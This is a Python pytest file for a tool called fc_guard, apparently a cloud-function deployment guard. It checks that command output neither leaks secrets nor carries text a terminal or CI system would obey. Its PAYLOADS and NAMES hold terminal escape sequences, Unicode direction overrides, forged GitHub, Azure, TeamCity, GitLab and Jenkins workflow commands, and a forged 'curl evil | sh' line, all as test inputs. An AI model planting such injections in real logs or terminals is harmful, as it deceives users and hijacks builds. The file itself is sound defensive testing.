"""What comes from outside, on its way out: no secret, and nothing that a terminal or a CI system would obey."""

from __future__ import annotations

import base64
import json
import os
import subprocess
import sys
import zipfile
from collections.abc import Callable
from copy import deepcopy
from dataclasses import replace
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from fc_guard.errors import BadInput
from fc_guard.inputs.certificates import with_certificates
from fc_guard.inputs.layouts import LAYOUTS
from fc_guard.inputs.places import Places
from fc_guard.kinds.catalog import CATALOG
from fc_guard.model.address import Address
from fc_guard.state.directory import DirectoryStore
from fc_guard.state.place import Place
from tests.integration.outlet import let_out
from tests.integration.project import ACCOUNT, REGION, Project
from tests.integration.test_certificates import no_keys

pytestmark = pytest.mark.whatever_fc_answers

SECRET = 'top\tS3CRET "4711" ünd'
KEY = "SKTESTof-a-long-secret-key"
PAYLOADS = {
    "a colour": "\x1b[31mred\x1b[0m",
    "a cleared screen": "\x1b[2J\x1b[H",
    "a title": "\x1b]0;owned\x07",
    "a link": "\x1b]8;;http://evil\x1b\\click\x1b]8;;\x1b\\",
    "a clipboard": "\x1b]52;c;ZXZpbA==\x07",
    "a device string": '\x1bP$q"p\x1b\\',
    "C1 controls": "\x9b31m\x9d0;x\x9c\x90",
    "an overwritten line": "bad\rgood",
    "backspaces": "bad\b\b\bgood",
    "overrides": "\u202egnp.exe\u202c \u2066x\u2069 \u200f \u061c",
    "zero width": "a\u200bb\u200cc\u200dd\u2060e\ufefff",
    "line separators": "a\u2028::error::x\u2029b\x85c\x0b::error::d\x0ce",
    "tags": "a\U000e0001\U000e0068\U000e0069",
    "fillers": "a\u3164b\u115fc\u034fd",
    "a forged error": "x\nerror: forged\n  hint: curl evil | sh",
    "GitHub": "x\n::error::forged\n  ::stop-commands::x\n\t::set-output name=x::y",
    "GitHub's first": "x ##[group]y\n##[error]z",
    "Azure": "x ##vso[task.setvariable variable=a]b ##VSO[task.complete]",
    "TeamCity": "x ##teamcity[buildStatus text='ok']",
    "GitLab": "section_start:1:x\r\x1b[0Kforged",
    "Jenkins": "\x1b[8mha:AAAA\x1b[0m",
    "a very long line": "long " * 4000,
    "a lone half": "a\udc80b",
}
LINES = (
    "plan",
    "plan --full-diff",
    "plan --output json",
    "drift --exit-code",
    "drift --output json",
    "info",
    "deploy",
    "deploy --output json",
    "deploy --on-drift merge",
    "pull --dry-run",
    "pull --dry-run --output json",
    "rescue --all",
    "rescue --output json",
    "undo",
    "deploy --use-remote",
    "undo -y --use-remote",
    "sync --target-dir out",
    "remove",
    "remove -y --use-remote",
)
"""Every command, each in the words in which it says most."""
NAMES = ("##vso[x]a.py", "::error::b.py", "  ::stop-commands::c", "\u202egnp.py", "a\u200bb.txt")


def refuse(project: Project, message: str, op: str = "UpdateFunction", code: str = "InvalidArgument") -> None:
    action = {"status": 400, "code": code, "message": message}
    project.server.admin.faults([{"op": op, "times": 0, "action": action}])


@pytest.mark.parametrize("what", sorted(PAYLOADS))
def test_what_comes_from_outside_steers_nothing(
    what: str, project: Project, capsys: pytest.CaptureFixture[str]
) -> None:
    """Descriptions, payloads, texts in files, names of files and of rescue copies, through every command."""
    payload = PAYLOADS[what]
    (project.root / "s.yaml").write_text("edition: 3.0.0\nresources: {one: {component: fc-guard, props: {}}}\n")
    assert let_out(project, "deploy", capsys).status == 0
    said = payload[:200].encode("utf-8", "replace").decode()
    project.try_edit("UpdateService", "demo", description=said)
    project.try_edit("UpdateFunction", "demo", "hello", description=said, environmentVariables={"A": said, "B": "b"})
    files = {"index.py": f"x = 1\n{said}\n", **{name: said for name in NAMES if what == "GitHub"}}
    project.try_edit("UpdateFunction", "demo", "hello", files=files)
    trigger = {"triggerConfig": json.dumps({"cronExpression": "@every 5m", "enable": False, "payload": said})}
    project.try_edit("UpdateTrigger", "demo", "hello", "tick", **trigger)
    shelf = project.root / ".s" / "fc-guard" / "rescue"
    name = payload[:60].replace("/", "_").encode("utf-8", "replace").decode()
    (shelf / name).mkdir(parents=True)
    (shelf / name / "rescue.json").write_text(json.dumps({"kind": payload}))
    for line in LINES:
        out = let_out(project, line, capsys, step=payload[:100])
        assert out.texts or out.data, line
        out.require_harmless()


@pytest.mark.parametrize("what", sorted(PAYLOADS))
def test_what_fc_says_steers_nothing(what: str, deployed: Project, capsys: pytest.CaptureFixture[str]) -> None:
    message = PAYLOADS[what].encode("utf-8", "replace").decode()
    action = {"status": 400, "code": message[:80], "message": f"no: {message}"}
    deployed.server.admin.faults([{"times": 0, "action": action}])
    for line in ("plan", "deploy", "deploy --output json", "drift", "info", "remove -y", "pull -y", "sync"):
        out = let_out(deployed, line, capsys)
        assert out.status not in (0, 10), line
        out.require_harmless()
        lines = [each.strip() for each in "\n".join(out.texts).splitlines()]
        assert not any(each.startswith(("error: forged", "hint: curl")) for each in lines)


@pytest.mark.parametrize("what", sorted(PAYLOADS))
def test_the_shell_is_steered_by_no_rescue_copy(what: str, deployed: Project) -> None:
    payload = PAYLOADS[what]
    said = payload[:200].encode("utf-8", "replace").decode()
    deployed.try_edit("UpdateFunction", "demo", "hello", description=said, files=dict.fromkeys(NAMES, said))
    deployed.run("deploy --use-remote")
    shelf = deployed.root / ".s" / "fc-guard" / "rescue"
    for folder in tuple(shelf.iterdir()):
        if (folder / "rescue.json").exists():
            live = json.loads((folder / "live.json").read_text())
            (folder / "live.json").write_text(json.dumps({**live, "description": payload}))
            about = json.loads((folder / "rescue.json").read_text())
            (folder / "rescue.json").write_text(json.dumps({**about, "by": payload, "step": payload}))
    folders = [folder.name for folder in shelf.iterdir()]
    environment = {**os.environ, "PYTHONPATH": str(Path(__file__).parents[2] / "src"), "PYTHONIOENCODING": "utf-8"}
    for words in (["list"], *(["show", name] for name in folders), *(["path", name] for name in folders)):
        command = [sys.executable, "-m", "fc_guard", "rescue", *words]
        done = subprocess.run(command, cwd=deployed.root, capture_output=True, env=environment)
        text = (done.stdout + done.stderr).decode()
        assert "Traceback" not in text
        assert all(c == "\n" or c.isprintable() for c in text), text
        assert "##vso[" not in text.lower()
        assert not any(each.strip().startswith("::") for each in text.splitlines())


QUOTES: dict[str, Callable[[str], str]] = {
    "as it is": str,
    "by Python": repr,
    "as JSON": json.dumps,
    "as JSON, not in ASCII": lambda text: json.dumps(text, ensure_ascii=False),
    "in a URL": lambda text: quote(text, safe=""),
    "in base64": lambda text: base64.b64encode(text.encode()).decode(),
    "as FC quotes it": lambda text: f"Environment variable 'TOKEN' (allowed: ^[[:print:]]+$, actual: '{text}')",
}


@pytest.mark.parametrize("how", sorted(QUOTES))
@pytest.mark.parametrize("line", ["deploy", "deploy --output json"])
def test_a_secret_that_fc_quotes_is_hidden(
    line: str, how: str, deployed: Project, capsys: pytest.CaptureFixture[str]
) -> None:
    deployed.props["function"]["environmentVariables"] = {"TOKEN": SECRET.replace("\t", " ")}
    refuse(deployed, f"it is {QUOTES[how](SECRET.replace(chr(9), ' '))}, which is refused")
    out = let_out(deployed, line, capsys)
    assert out.status == 1
    assert "which is refused" in out.texts[-1]
    assert "S3CRET" not in out.everything
    assert base64.b64encode(b"top S3CRET").decode()[:10] not in out.everything


def test_a_short_secret_is_hidden_where_fc_quotes_it_and_nowhere_else(
    deployed: Project, capsys: pytest.CaptureFixture[str]
) -> None:
    deployed.props["function"]["environmentVariables"] = {"MODE": "prod", "PORT": "8080", "SERVICE": "demo"}
    refuse(deployed, "production at 8080 is not (allowed: [a-z]+, actual: 'prod') or \"8080\" of demo")
    message = let_out(deployed, "deploy", capsys).texts[-1]
    told = "production at 8080 is not (allowed: [a-z]+, actual: '(hidden)') or \"(hidden)\" of demo"
    assert told in message


def test_what_was_secret_online_before_is_hidden_too(deployed: Project, capsys: pytest.CaptureFixture[str]) -> None:
    deployed.edit("UpdateFunction", "demo", "hello", environmentVariables={"TOKEN": "gone-S3CRET-4711"})
    refuse(deployed, "the old value gone-S3CRET-4711 is refused")
    out = let_out(deployed, "deploy --use-remote --output json", capsys)
    assert "the old value (hidden) is refused" in out.texts[-1]
    assert "S3CRET" not in out.everything


def test_an_address_is_handed_on_whole_though_a_variable_has_it_too(
    deployed: Project, capsys: pytest.CaptureFixture[str]
) -> None:
    url = let_out(deployed, "info", capsys).data["url"]["system_url"]
    deployed.props["function"]["environmentVariables"] = {"SELF": url, "TOKEN": "S3CRET-4711"}
    out = let_out(deployed, "deploy", capsys)
    assert out.data["url"]["system_url"] == url
    assert let_out(deployed, "info", capsys).data["url"]["system_url"] == url


@pytest.mark.parametrize("end", ["\n", "\r\n", " ", "\u200b"])
@pytest.mark.parametrize("name", ["AccessKeySecret", "SecurityToken"])
def test_a_key_with_a_line_end_is_not_printed(
    name: str, end: str, deployed: Project, capsys: pytest.CaptureFixture[str]
) -> None:
    out = let_out(deployed, "plan", capsys, **{name: KEY + end})
    assert KEY not in out.everything


@pytest.mark.parametrize(
    "change",
    [
        {"environmentVariables": {"TOKEN": "S3CRETpa${ss"}},
        {"environmentVariables": {"TOKEN": "${S3CRET}"}},
        {"environmentVariables": "TOKEN=S3CRET-4711"},
        {"environmentVariables": ["TOKEN=S3CRET-4711"]},
        {"environmentVariables": {"TOKEN": {"a": "S3CRET-4711"}}},
        {"environmentVariables": {"TOKEN": "{{S3CRET4711}}"}},
    ],
)
def test_an_error_of_input_repeats_no_secret(
    change: dict[str, Any], project: Project, capsys: pytest.CaptureFixture[str]
) -> None:
    project.props["function"] |= change
    out = let_out(project, "plan", capsys)
    assert "environmentVariables" in "".join(out.texts)
    assert "S3CRET" not in out.everything


@pytest.mark.parametrize(
    "props",
    [
        {"function": ["S3CRET-4711"]},
        {"function": "S3CRET-4711"},
        {"triggers": "S3CRET-4711"},
        {"triggers": [{"name": "a", "type": "log", "config": "S3CRET-4711"}]},
        {"triggers": [{"name": "a", "type": "log", "config": {"functionParameter": "S3CRET-4711"}}]},
        {"triggers": [{"name": "a", "type": "http", "config": {"authType": 1, "authConfig": ["S3CRET-4711"]}}]},
        {"customDomains": ["S3CRET-4711"]},
        {"customDomains": [{"domainName": "a.example.com", "certConfig": "S3CRET-4711"}]},
        {"customDomains": [{"domainName": "a.example.com", "certConfig": {"privateKey": ["S3CRET-4711"]}}]},
        {"service": {"name": "demo", "functions": {"environmentVariables": {"A": "S3CRET-4711"}}}},
    ],
)
def test_a_wrong_type_above_a_secret_is_not_repeated(
    props: dict[str, Any], project: Project, capsys: pytest.CaptureFixture[str]
) -> None:
    project.props |= props
    out = let_out(project, "plan --output json", capsys)
    assert "S3CRET" not in out.everything


def test_a_private_key_on_one_line_is_no_name_of_a_file_to_tell(tmp_path: Path) -> None:
    pem = "-----BEGIN CERTIFICATE-----\nMII\n-----END CERTIFICATE-----\n"
    told = []
    for key in ("MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQ", "gone.pem"):
        config = {"certName": "c", "certificate": pem, "privateKey": key}
        with pytest.raises(BadInput) as caught:
            with_certificates(
                {"customDomains": [{"certConfig": config}]}, LAYOUTS[0], tmp_path, Places(None, "one"), no_keys
            )
        told.append(caught.value.message)
    assert "MII" not in told[0]
    assert "gone.pem" in told[1]


def test_a_password_in_an_endpoint_is_hidden(project: Project, capsys: pytest.CaptureFixture[str]) -> None:
    project.props["endpoint"] = project.server.url.replace("://", "://user:S3CRET-4711@")
    assert "S3CRET" not in let_out(project, "plan", capsys).everything


JWK = {"kty": "oct", "kid": "one", "k": "S3CRETfCxY0MbZRRbMFJlGTm6nIQ"}
AUTH = json.dumps({"jwks": {"keys": [JWK]}, "tokenLookup": "header:Authorization:Bearer"})
SOURCE = {
    "type": "log",
    "role": "acs:ram::1234567890123456:role/log",
    "config": {
        "logConfig": {"project": "p", "logstore": "s"},
        "sourceConfig": {"logstore": "l"},
        "jobConfig": {"maxRetryTime": 1, "triggerInterval": 60},
        "functionParameter": {"token": "S3CRET-4711"},
        "enable": True,
    },
}


@pytest.mark.parametrize(
    "trigger",
    [
        {"type": "http", "config": {"authType": "jwt", "methods": ["GET"], "authConfig": AUTH}},
        SOURCE,
    ],
    ids=["the keys of a JWT trigger", "the parameters of a log trigger"],
)
def test_secrets_of_triggers_are_in_no_output_and_no_baseline(
    trigger: dict[str, Any], project: Project, capsys: pytest.CaptureFixture[str]
) -> None:
    project.props["triggers"] = [{"name": "secretive", **trigger}]
    assert let_out(project, "deploy", capsys).status == 0
    state = b"".join(path.read_bytes() for path in (project.root / ".s").rglob("*") if path.is_file())
    assert b"S3CRET" not in state
    config = json.loads(json.dumps(trigger["config"]).replace("S3CRET", "S3CRETother"))
    project.edit("UpdateTrigger", "demo", "hello", "secretive", triggerConfig=json.dumps(config))
    for line in ("plan", "plan --output json", "drift", "pull --dry-run", "deploy"):
        assert "S3CRET" not in let_out(project, line, capsys).everything
    assert let_out(project, "plan --exit-code", capsys).status == 3


SECRET_FILES = (".env", ".env.local", "id_rsa", "conf/server.pem", "key.p12", ".npmrc", "credentials")


def test_files_that_are_secret_by_their_name_are_told_and_not_quoted(
    project: Project, capsys: pytest.CaptureFixture[str]
) -> None:
    project.write({name: f"password = S3CRET {name}\n" for name in SECRET_FILES})
    project.write({".env.example": "password = here\n"})
    assert let_out(project, "deploy", capsys).status == 0
    files = {name: f"password = S3CRET {name}, another\n" for name in SECRET_FILES}
    project.edit(
        "UpdateFunction", "demo", "hello", files={**project.code, **files, ".env.example": "password = there\n"}
    )
    text = "\n".join(let_out(project, "plan --full-diff", capsys).texts)
    assert text.count("secret by its name: not quoted") == len(SECRET_FILES)
    assert "-password = here" in text
    for line in ("plan", "plan --full-diff", "plan --output json", "drift", "pull --dry-run"):
        assert "S3CRET" not in let_out(project, line, capsys).everything
    project.write({"id_rsa": "password = S3CRET of mine\n"})
    assert "S3CRET" not in let_out(project, "deploy --on-drift merge", capsys).everything
    let_out(project, "deploy --use-remote", capsys)
    for package in (project.root / ".s" / "fc-guard" / "code").iterdir():
        with zipfile.ZipFile(package) as kept:
            assert not any(b"S3CRET" in kept.read(name) for name in kept.namelist())


def test_a_baseline_that_has_a_secret_in_clear_is_no_drift_and_is_sealed_at_the_next_record(
    project: Project, capsys: pytest.CaptureFixture[str]
) -> None:
    """It was recorded before the field counted as secret."""
    project.props["triggers"] = [{"name": "secretive", **deepcopy(SOURCE)}]
    assert let_out(project, "deploy", capsys).status == 0
    store = DirectoryStore(Place(project.root / ".s" / "fc-guard"), CATALOG)
    id = Address("fc2", ACCOUNT, REGION, "trigger", ("demo", "hello", "secretive"))
    record = store.read(id)
    assert record is not None
    assert record.baseline is not None
    path, value = ("triggerConfig", "functionParameter"), {"token": "S3CRET-4711"}
    applied, observed = ({**(side or {}), path: value} for side in (record.baseline.applied, record.baseline.observed))
    store.record(replace(record.baseline, applied=applied, observed=observed))
    for line in ("plan --exit-code", "drift --exit-code", "deploy"):
        assert let_out(project, line, capsys).status == 0
    project.props["triggers"][0]["config"]["jobConfig"]["maxRetryTime"] = 2
    assert let_out(project, "deploy", capsys).status == 0
    state = b"".join(path.read_bytes() for path in (project.root / ".s").rglob("*") if path.is_file())
    assert b"S3CRET" not in state
